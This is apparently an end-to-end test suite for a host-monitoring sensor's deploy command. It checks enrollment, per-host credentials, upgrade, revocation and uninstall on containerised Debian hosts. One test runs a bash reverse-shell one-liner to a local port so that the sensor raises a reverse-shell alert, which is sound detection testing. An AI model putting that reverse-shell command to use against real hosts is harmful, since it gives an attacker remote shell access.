/**
 * `vigil deploy` on its default path, enrollment, to two real hosts: Debian bookworm roots booted by
 * systemd-nspawn with their own systemd and sshd (test/support/nspawn-host.ts), reached over the ssh
 * binary as root. They share this machine's network namespace, so a sensor inside reaches the
 * control plane's API and nats-server on 127.0.0.1. The central side is `vigil up --no-sensor`:
 * nats-server in operator mode and the control plane holding the account signing key, both behind
 * TLS that requires client certificates (`vigil certs`, --tls-client-auth). No NATS password exists
 * anywhere: deploy writes a fresh one-use enrollment token per host and, with --client-certs, a
 * client certificate of the host's own; each sensor makes its key pair on its host and enrolls at
 * its first start, over HTTPS with its certificate.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:net';
import { X509Certificate } from 'node:crypto';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { connect, credsAuthenticator } from 'nats';
import { fromSeed } from '@nats-io/nkeys';
import { type AlertV1, type HostRow, type HostsReport, heartbeatSubject, sensorInboxPrefix } from '@vigil/schema';
import { freePort, startVigil, tempDir, vigil, vigilAsync, vigilJson, waitFor } from '../support/harness.js';
import { startHost, testKey, type TestHost } from '../support/nspawn-host.js';

const dir = tempDir('deploy-e2e');
const certs = join(dir, 'certs');
// The CLI as an operator runs it against a control plane with client auth: every call of this file.
Object.assign(process.env, {
  VIGIL_CA: join(certs, 'ca.pem'),
  VIGIL_CLIENT_CERT: join(certs, 'client-ops.pem'),
  VIGIL_CLIENT_KEY: join(certs, 'client-ops-key.pem'),
});
const HOSTS = ['deploy-a', 'deploy-b'] as const;
const UPGRADE = '0.1.0-upgrade.1';
let up: ReturnType<typeof startVigil>;
let api = '';
let sshConfig = '';
let sink: Server;
let sinkPort = 0;
const hosts: TestHost[] = [];
const bundles: Record<string, string> = {};
/** Host B's key when it was revoked. */
let revokedKey = '';

const deployArgs = (bundle: string) => [
  'deploy',
  '--ssh-config',
  sshConfig,
  '--bundle',
  bundle,
  '--heartbeat-timeout',
  '90',
  '--client-certs',
  certs,
];
type Outcome = { target: string; host: string | null; ok: boolean; step: string; error?: string };
const hostNamed = (name: string): TestHost => hosts.find((h) => h.name === name)!;
const rowOf = (name: string): HostRow | undefined =>
  vigilJson<HostsReport>(api, ['hosts']).hosts.find((h) => h.host === name && h.state === 'active');
/** The NATS URLs the host's enrollment told it, its credential and its client certificate, read from its /etc/vigil. */
const enrolled = (name: string) => ({
  natsUrl: (JSON.parse(hostNamed(name).ssh('cat /etc/vigil/enrollment.json')) as { natsUrls: string[] }).natsUrls[0]!,
  creds: hostNamed(name).ssh('cat /etc/vigil/sensor.creds'),
  tls: {
    ca: hostNamed(name).ssh('cat /etc/vigil/ca.pem'),
    cert: hostNamed(name).ssh('cat /etc/vigil/client.pem'),
    key: hostNamed(name).ssh('cat /etc/vigil/client-key.pem'),
  },
});
const connectWith = (name: string, as: string) => {
  const { natsUrl, creds, tls } = enrolled(name);
  return connect({
    servers: natsUrl,
    tls,
    authenticator: credsAuthenticator(new TextEncoder().encode(creds)),
    inboxPrefix: sensorInboxPrefix(as),
    maxReconnectAttempts: 0,
  });
};

before(
  async () => {
    const made = vigil('', ['certs', '--dir', certs, '--client', 'ops']);
    assert.equal(made.status, 0, made.stderr);
    const key = testKey(dir);
    // Booted side by side: each waits for its own systemd, and the two boots overlap.
    hosts.push(...(await Promise.all(HOSTS.map((name) => startHost(name, key)))));
    sshConfig = join(dir, 'ssh_config');
    writeFileSync(sshConfig, hosts.map((h) => h.sshConfig).join('\n'));
    const apiPort = await freePort();
    api = `https://127.0.0.1:${apiPort}`;
    up = startVigil([
      'up',
      '--no-sensor',
      '--tls-dir',
      certs,
      '--tls-client-auth',
      '--data-dir',
      join(dir, 'data'),
      '--api-port',
      String(apiPort),
      '--nats-port',
      String(await freePort()),
    ]);
    await waitFor(
      'the control plane on NATS',
      () => vigilJson<{ controlPlane: { nats: string } }>(api, ['status']).controlPlane.nats === 'connected',
      90_000,
      300,
    ).catch((err: Error) => {
      throw new Error(`${err.message}\n${up.logs.join('').slice(-3000)}`);
    });
    for (const [version, args] of [
      ['0.1.0', []],
      [UPGRADE, ['--set-version', UPGRADE]],
    ] as const) {
      const out = join(dir, `bundle-${version}`);
      const r = vigil(api, ['bundle', '--out', out, ...args]);
      assert.equal(r.status, 0, r.stderr);
      bundles[version] = join(out, readdirSync(out)[0]!);
    }
    sink = createServer((s) => s.on('error', () => {}));
    sinkPort = await freePort();
    await new Promise<void>((r) => sink.listen(sinkPort, '127.0.0.1', r));
  },
  { timeout: 900_000 },
);

after(async () => {
  sink?.close();
  await Promise.all(hosts.map((h) => h.stop()));
  await up?.stop();
});

test('deploy enrolls two hosts with no NATS password: each heartbeats under its own id and key, from its own unit', {
  timeout: 600_000,
}, async () => {
  const r = await vigilAsync(api, [...deployArgs(bundles['0.1.0']!), ...HOSTS, '--json']);
  assert.equal(r.status, 0, `${r.stdout}\n${r.stderr}\n${up.logs.join('').slice(-3000)}`);
  const { hosts: outcomes } = JSON.parse(r.stdout) as { hosts: Outcome[] };
  assert.deepEqual(
    outcomes.map((o) => [o.target, o.host, o.ok, o.step]),
    HOSTS.map((h) => [h, h, true, 'heartbeat']),
  );
  const report = vigilJson<HostsReport>(api, ['hosts']);
  for (const name of HOSTS) {
    const row = report.hosts.find((h) => h.host === name)!;
    assert.equal(row.state, 'active');
    assert.equal(row.version, '0.1.0');
    assert.ok(row.lastHeartbeatTs, `${name} heartbeats`);
    assert.ok(Date.parse(row.credentialExpiresTs!) > Date.now(), 'a credential that has not expired');
    const h = hostNamed(name);
    // What reached the host: a token and where to enroll, then its own key; no NATS password.
    const env = h.ssh('cat /etc/vigil/sensor.env');
    assert.match(env, /^VIGIL_ENROLL_URL="https:\/\/127\.0\.0\.1:\d+"$/m);
    assert.match(env, /^VIGIL_ENROLL_TOKEN="[^"]+"$/m);
    assert.doesNotMatch(env, /PASSWORD|VIGIL_NATS_USER/);
    assert.equal(h.sshStatus('grep -rl PASSWORD /etc/vigil /opt/vigil/current/systemd').status, 1);
    assert.equal(
      h.ssh('stat -c %a /etc/vigil/sensor.env /etc/vigil/sensor.creds /etc/vigil/client-key.pem /etc/vigil/client.pem'),
      '600\n600\n600\n644\n',
    );
    // Its own client certificate, for its host id, from the CA the control plane trusts.
    const own = new X509Certificate(h.ssh('cat /etc/vigil/client.pem'));
    assert.match(own.subject, new RegExp(`^CN=${name}$`, 'm'));
    assert.ok(own.checkIssued(new X509Certificate(readFileSync(join(certs, 'ca.pem')))));
    const seed = /^SU[A-Z2-7]{56}$/m.exec(h.ssh('cat /etc/vigil/sensor.creds'))![0];
    assert.equal(row.publicKey, fromSeed(new TextEncoder().encode(seed)).getPublicKey(), 'the key made on the host');
    assert.equal(h.ssh('systemctl is-active vigil-sensor.service').trim(), 'active');
    assert.equal(h.ssh('systemctl is-enabled vigil-sensor.service').trim(), 'enabled');
    assert.equal(h.ssh('readlink /opt/vigil/current').trim(), '0.1.0');
    // The unit's limits hold, and the sensor did its work under them (the pageout helper included).
    const unit = h.ssh(
      'systemctl show -p CapabilityBoundingSet -p NoNewPrivileges -p ProtectSystem -p ProtectKernelTunables vigil-sensor',
    );
    assert.match(unit, /NoNewPrivileges=yes/);
    assert.match(unit, /ProtectSystem=strict/);
    assert.match(unit, /ProtectKernelTunables=yes/);
    assert.match(unit, /cap_bpf/);
    assert.doesNotMatch(unit, /cap_net_admin|cap_sys_module/);
    assert.equal(h.ssh('journalctl -u vigil-sensor --no-pager | grep -c PageoutError; true').trim(), '0');
  }
  assert.notEqual(report.hosts.find((h) => h.host === 'deploy-a')!.publicKey, rowOf('deploy-b')!.publicKey);
  const text = vigil(api, ['hosts']);
  assert.equal(text.status, 0, text.stderr);
  for (const name of HOSTS) assert.match(text.stdout, new RegExp(`^${name}\\s+active\\s+0\\.1\\.0\\s+\\d{4}-`, 'm'));
});

test('an attack on each host raises an alert under that host id', { timeout: 300_000 }, async () => {
  for (const name of HOSTS) {
    // SIGKILL: an interactive bash ignores SIGTERM, and one left over would hold up the host's shutdown.
    hostNamed(name).sshStatus(`timeout -s KILL 3 bash -c 'bash -i >& /dev/tcp/127.0.0.1/${sinkPort} 0>&1; true'`);
  }
  for (const name of HOSTS) {
    await waitFor(
      `a shell.reverse alert from ${name}`,
      () => vigilJson<AlertV1[]>(api, ['alerts', '--host', name]).some((a) => a.ruleId === 'shell.reverse'),
      120_000,
      1000,
    );
  }
});

test("host A's credential, read from its /etc/vigil, cannot publish as host B", { timeout: 60_000 }, async () => {
  const nc = await connectWith('deploy-a', 'deploy-a');
  try {
    const js = nc.jetstream();
    await assert.rejects(js.publish('vigil.events.deploy-b.forged', '{}'), /Permissions Violation for Publish/);
    await assert.rejects(js.publish(heartbeatSubject('deploy-b'), '{}'), /Permissions Violation for Publish/);
    // Its own subjects it may use: the refusal is the other host's, not a broken credential.
    await js.publish(heartbeatSubject('deploy-a'), '{}').catch((err: Error) => {
      assert.doesNotMatch(err.message, /Permissions Violation/);
    });
  } finally {
    await nc.close();
  }
});

test('--dry-run prints the plan and changes nothing', { timeout: 120_000 }, async () => {
  const h = hostNamed('deploy-a');
  const state = 'ls -la --full-time /opt/vigil /etc/vigil; systemctl show -p ActiveEnterTimestamp vigil-sensor.service';
  const before = h.ssh(state);
  const r = await vigilAsync(api, [...deployArgs(bundles[UPGRADE]!), 'deploy-a', '--dry-run']);
  assert.equal(r.status, 0, r.stderr);
  assert.match(r.stdout, /dry run: nothing changes/);
  assert.match(r.stdout, new RegExp(`deploy-a: install vigil-sensor ${UPGRADE.replaceAll('.', '\\.')}`));
  assert.equal(h.ssh(state), before);
});

test('a re-deploy upgrades in place, keeping the credential and the version before; an unreachable host fails alone', {
  timeout: 600_000,
}, async () => {
  const key = rowOf('deploy-a')!.publicKey;
  const closed = await freePort();
  const r = await vigilAsync(api, [...deployArgs(bundles[UPGRADE]!), 'deploy-a', `127.0.0.1:${closed}`, '--json']);
  assert.equal(r.status, 1, `${r.stdout}\n${r.stderr}`);
  const { hosts: outcomes } = JSON.parse(r.stdout) as { hosts: Outcome[] };
  assert.deepEqual(
    outcomes.map((o) => [o.target, o.ok, o.step]),
    [
      ['deploy-a', true, 'heartbeat'],
      [`127.0.0.1:${closed}`, false, 'probe'],
    ],
  );
  assert.match(outcomes[1]!.error!, /refused/i);
  const h = hostNamed('deploy-a');
  assert.equal(h.ssh('readlink /opt/vigil/current').trim(), UPGRADE);
  assert.equal(h.ssh('readlink /opt/vigil/previous').trim(), '0.1.0');
  assert.deepEqual(h.ssh('ls /opt/vigil').trim().split('\n').sort(), ['0.1.0', UPGRADE, 'current', 'previous'].sort());
  // The enrolled sensor keeps its key (the new token goes unused); its heartbeats carry the new version.
  const row = rowOf('deploy-a')!;
  assert.equal(row.publicKey, key);
  assert.equal(row.version, UPGRADE);
  assert.equal(vigilJson<HostsReport>(api, ['hosts']).hosts.filter((x) => x.host === 'deploy-a').length, 1);
  const text = vigil(api, ['hosts']);
  assert.match(text.stdout, new RegExp(`^deploy-a\\s+active\\s+${UPGRADE.replaceAll('.', '\\.')}\\s`, 'm'));
});

test('revoking host B disconnects it and refuses its reconnects; host A keeps heartbeating', {
  timeout: 300_000,
}, async () => {
  revokedKey = rowOf('deploy-b')!.publicKey;
  const r = vigil(api, ['hosts', 'revoke', 'deploy-b']);
  assert.equal(r.status, 0, r.stderr);
  await assert.rejects(connectWith('deploy-b', 'deploy-b'), /Authorization Violation/);
  // Two heartbeats of A after the revocation; B's last one is the same before and after them.
  const beatsOfA = async (n: number) => {
    for (let i = 0; i < n; i++) {
      const since = rowOf('deploy-a')!.lastHeartbeatTs!;
      await waitFor('a heartbeat from deploy-a', () => rowOf('deploy-a')!.lastHeartbeatTs! > since, 60_000, 500);
    }
  };
  const lastOfB = () => vigilJson<HostsReport>(api, ['hosts']).hosts.find((h) => h.host === 'deploy-b')!;
  await beatsOfA(2);
  const settled = lastOfB();
  assert.equal(settled.state, 'revoked');
  await beatsOfA(2);
  assert.equal(lastOfB().lastHeartbeatTs, settled.lastHeartbeatTs);
});

test('--uninstall removes the unit, /opt/vigil and /etc/vigil: the host is gone from systemd', {
  timeout: 300_000,
}, async () => {
  const r = await vigilAsync(api, ['deploy', '--ssh-config', sshConfig, 'deploy-b', '--uninstall', '--json']);
  assert.equal(r.status, 0, `${r.stdout}\n${r.stderr}`);
  const h = hostNamed('deploy-b');
  assert.notEqual(h.sshStatus('systemctl cat vigil-sensor.service').status, 0);
  assert.equal(
    h.ssh('systemctl show -p LoadState -p ActiveState vigil-sensor.service'),
    'LoadState=not-found\nActiveState=inactive\n',
  );
  assert.equal(h.sshStatus('systemctl list-unit-files --no-legend "vigil*"').stdout.trim(), '');
  assert.equal(h.sshStatus('test -e /opt/vigil || test -e /etc/vigil || test -e /var/lib/vigil').status, 1);
  assert.equal(h.sshStatus('pgrep -f /opt/vigil').status, 1);
});

test('a host without bpftrace fails at deps, saying so; --install-deps installs it, and the host enrolls again', {
  timeout: 600_000,
}, async () => {
  const h = hostNamed('deploy-b');
  h.ssh('dpkg -r bpftrace >/dev/null');
  const r = await vigilAsync(api, [...deployArgs(bundles['0.1.0']!), 'deploy-b', '--json']);
  assert.equal(r.status, 1, `${r.stdout}\n${r.stderr}`);
  const [failed] = (JSON.parse(r.stdout) as { hosts: Outcome[] }).hosts;
  assert.equal(failed?.step, 'deps');
  assert.match(failed?.error ?? '', /bpftrace is missing \(--install-deps installs it/);
  assert.equal(h.sshStatus('test -e /opt/vigil').status, 1);

  // From the Debian mirror the host's apt is set to, as on a real host.
  const again = await vigilAsync(api, [...deployArgs(bundles['0.1.0']!), 'deploy-b', '--install-deps', '--json']);
  assert.equal(again.status, 0, `${again.stdout}\n${again.stderr}`);
  assert.deepEqual(
    (JSON.parse(again.stdout) as { hosts: Outcome[] }).hosts.map((o) => [o.ok, o.step]),
    [[true, 'heartbeat']],
  );
  assert.match(h.ssh('dpkg -s bpftrace'), /^Status: install ok installed$/m);
  // Uninstalled, its key went with it: the host id is active again, with a new key.
  const rows = vigilJson<HostsReport>(api, ['hosts']).hosts.filter((x) => x.host === 'deploy-b');
  assert.deepEqual(
    rows.map((x) => x.state),
    ['active'],
  );
  assert.notEqual(rows[0]!.publicKey, revokedKey);
});
